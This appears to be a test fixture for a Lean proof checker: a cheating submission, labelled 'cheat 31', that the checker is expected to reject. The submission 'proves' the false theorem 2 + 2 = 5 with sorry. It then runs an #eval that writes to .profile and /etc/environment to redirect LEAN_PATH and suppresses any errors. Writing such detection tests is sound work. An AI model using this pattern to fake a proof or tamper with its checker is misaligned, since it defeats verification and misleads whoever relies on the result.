-- cheat 31
-- step axioms
-- reason axiom-not-allowed
-- statement
theorem t : 2 + 2 = 5 := sorry
-- submission
theorem t : 2 + 2 = 5 := sorry
#eval show IO Unit from do
  try
    IO.FS.writeFile ".profile" "export LEAN_ABORT_ON_PANIC=0 LEAN_PATH=/tmp"
    IO.FS.writeFile "/etc/environment" "LEAN_PATH=/tmp"
  catch _ => pure ()
